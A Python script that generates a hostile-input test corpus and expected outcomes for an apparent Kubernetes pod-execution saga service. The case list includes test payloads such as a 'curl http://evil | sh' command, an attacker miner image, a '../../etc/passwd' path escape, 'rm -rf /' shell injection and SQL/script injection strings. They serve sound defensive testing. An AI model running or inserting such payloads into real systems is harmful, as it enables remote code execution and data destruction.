#!/usr/bin/env python3
"""Writes the hostile-input corpus: one file per case plus cases.tsv (file, topic, expected outcome).

Expected outcomes: dlq:<kind> (dead-lettered with that x-dlq kind), failed:<text> (execution_failed whose
reason contains text), created (Pod and ConfigMap exist), deleted. Re-run after changing a case; the files
are committed.
"""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))
BASE = {
    "event_id": "0f4b6a9e-2d3c-4b1a-8e7f-6a5b4c3d2e1f", "event_type": "create_pod_command", "event_version": "1.0",
    "timestamp": "2026-03-06T21:29:12.481337Z", "aggregate_id": "EXEC",
    "metadata": {"service_name": "saga-orchestrator", "service_version": "1.0.0",
                 "user_id": "7e2d4c1b-5a3f-4b8e-9c6d-1f0a2b3c4d5e", "environment": "production"},
    "saga_id": "c3a1e7d2-9b4f-4e8a-a6d5-2f7b1c9e0a34", "execution_id": "EXEC",
    "script": "print('hello, k8s')\n", "language": "python", "language_version": "3.11",
    "runtime_image": "python:3.11-slim", "runtime_command": ["python", "/scripts/main.py"],
    "runtime_filename": "main.py", "timeout_seconds": 5, "cpu_limit": "1000m", "memory_limit": "128Mi",
    "cpu_request": "200m", "memory_request": "128Mi", "priority": "normal",
}
counter = [0]

def create(**changes):
    counter[0] += 1
    body = json.loads(json.dumps(BASE))
    eid = "00000000-0000-4000-8000-%012d" % (900000 + counter[0])
    body["execution_id"] = body["aggregate_id"] = eid
    for key, value in changes.items():
        if value is None:
            body.pop(key, None)
        else:
            body[key] = value
    return json.dumps(body, separators=(",", ":"), ensure_ascii=False).encode()

def delete(eid, **changes):
    body = {"event_id": "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d", "event_type": "delete_pod_command",
            "event_version": "1.0", "timestamp": "2026-03-06T21:29:15.004200Z", "aggregate_id": eid,
            "metadata": BASE["metadata"], "saga_id": BASE["saga_id"], "execution_id": eid,
            "reason": "Saga compensation due to failure", "pod_name": None, "namespace": None}
    body.update(changes)
    return json.dumps(body, separators=(",", ":")).encode()

good = create()
cases = [
    ("malformed-json.json", b'{"event_type":"create_pod_command","execution_id":', "saga_commands", "dlq:undecodable"),
    ("truncated.json", good[: len(good) // 2], "saga_commands", "dlq:undecodable"),
    ("not-utf8.json", good.replace(b"hello, k8s", b"hello \xff\xfe k8s"), "saga_commands", "dlq:undecodable"),
    ("wrong-type-script.json", create(script=["not", "a", "string"]), "saga_commands", "dlq:undecodable"),
    ("missing-execution-id.json", create(execution_id=None), "saga_commands", "dlq:undecodable"),
    ("not-an-object.json", b'["create_pod_command"]', "saga_commands", "dlq:undecodable"),
    ("empty.json", b"", "saga_commands", "dlq:undecodable"),
    ("unknown-event-type.json", create(event_type="drop_all_tables_command"), "saga_commands", "dlq:unknown_event_type"),
    ("topic-mismatch.json", create(), "delete_pod_command", "dlq:topic_mismatch"),
    ("id-slash.json", create(execution_id="abc/def"), "saga_commands", "dlq:invalid_execution_id"),
    ("id-dotdot.json", create(execution_id=".."), "saga_commands", "dlq:invalid_execution_id"),
    ("id-space.json", create(execution_id="abc def"), "saga_commands", "dlq:invalid_execution_id"),
    ("id-upper.json", create(execution_id="ABC-DEF"), "saga_commands", "dlq:invalid_execution_id"),
    ("id-300.json", create(execution_id="a" * 300), "saga_commands", "dlq:invalid_execution_id"),
    ("id-control.json", create(execution_id="abc\u0007\u001bdef"), "saga_commands", "dlq:invalid_execution_id"),
    ("id-empty.json", create(execution_id=""), "saga_commands", "dlq:invalid_execution_id"),
    ("image-not-allowed.json", create(runtime_image="docker.io/attacker/miner:latest"), "saga_commands", "failed:runtime_image"),
    ("command-not-allowed.json", create(runtime_command=["sh", "-c", "curl http://evil | sh"]), "saga_commands", "failed:runtime_command"),
    ("filename-escape.json", create(runtime_filename="../../etc/passwd"), "saga_commands", "failed:runtime_filename"),
    ("unknown-language.json", create(language="cobol", language_version="85"), "saga_commands", "failed:cobol"),
    ("negative-timeout.json", create(timeout_seconds=-5), "saga_commands", "failed:timeout"),
    ("bad-quantity.json", create(cpu_limit="lots"), "saga_commands", "failed:cpu"),
    ("missing-timestamp.json", create(timestamp=None), "saga_commands", "created"),
    ("absurd-resources.json", create(timeout_seconds=999999999, cpu_limit="100000", memory_limit="1Ei",
                                     cpu_request="100000", memory_request="1Ei"), "saga_commands", "created"),
    ("shell-metacharacters-script.json", create(script="import os\nos.system('$(rm -rf /) `id` ; reboot')\n'; exit 0; '\n"),
     "saga_commands", "created"),
    ("label-breaking-user-id.json", create(metadata=dict(BASE["metadata"], user_id="root; DROP TABLE users -- <script>/../" + "x" * 80)),
     "saga_commands", "created"),
    ("delete-other-pod-name.json", delete("00000000-0000-4000-8000-000000999001", pod_name="kube-apiserver"), "saga_commands", "failed:pod_name"),
    ("delete-other-namespace.json", delete("00000000-0000-4000-8000-000000999002", namespace="kube-system"), "saga_commands", "failed:namespace"),
    ("delete-foreign-pod.json", delete("00000000-0000-4000-8000-000000999003"), "saga_commands", "failed:not created for this execution"),
    # Size boundaries of the fields echoed into events (CommandTriage.maxEchoedFieldBytes = 1024): one under, at, over.
    ("user-id-1023.json", create(metadata=dict(BASE["metadata"], user_id="u" * 1023)), "saga_commands", "created"),
    ("user-id-1024.json", create(metadata=dict(BASE["metadata"], user_id="u" * 1024)), "saga_commands", "created"),
    ("user-id-1025.json", create(metadata=dict(BASE["metadata"], user_id="u" * 1025)), "saga_commands", "dlq:field_too_large"),
    ("saga-id-1023.json", create(saga_id="s" * 1023), "saga_commands", "created"),
    ("saga-id-1024.json", create(saga_id="s" * 1024), "saga_commands", "created"),
    ("saga-id-1025.json", create(saga_id="s" * 1025), "saga_commands", "dlq:field_too_large"),
    ("aggregate-id-1025.json", create(aggregate_id="a" * 1025), "saga_commands", "dlq:field_too_large"),
    ("service-name-1025.json", create(metadata=dict(BASE["metadata"], service_name="n" * 1025)), "saga_commands", "dlq:field_too_large"),
]
with open(os.path.join(HERE, "cases.tsv"), "w") as index:
    index.write("# file\ttopic\texpected (see generate.py); 'generated:…' cases are built by the test (records and scripts at,\n")
    index.write("# one under and one over their limits: kafka.max_record_bytes' default 4 MiB, the 1,000,000-byte script)\n")
    for name, data, topic, expected in cases:
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)
        index.write(f"{name}\t{topic}\t{expected}\n")
    index.write("generated:too-large\tsaga_commands\tdlq:too_large\n")
    index.write("generated:script-too-large\tsaga_commands\tfailed:script is\n")
    index.write("generated:record-at-limit\tsaga_commands\tcreated\n")
    index.write("generated:record-under-limit\tsaga_commands\tcreated\n")
    index.write("generated:record-over-limit\tsaga_commands\tdlq:too_large\n")
    index.write("generated:script-at-limit\tsaga_commands\tcreated\n")
    index.write("generated:script-under-limit\tsaga_commands\tcreated\n")
    index.write("generated:script-over-limit\tsaga_commands\tfailed:script is\n")
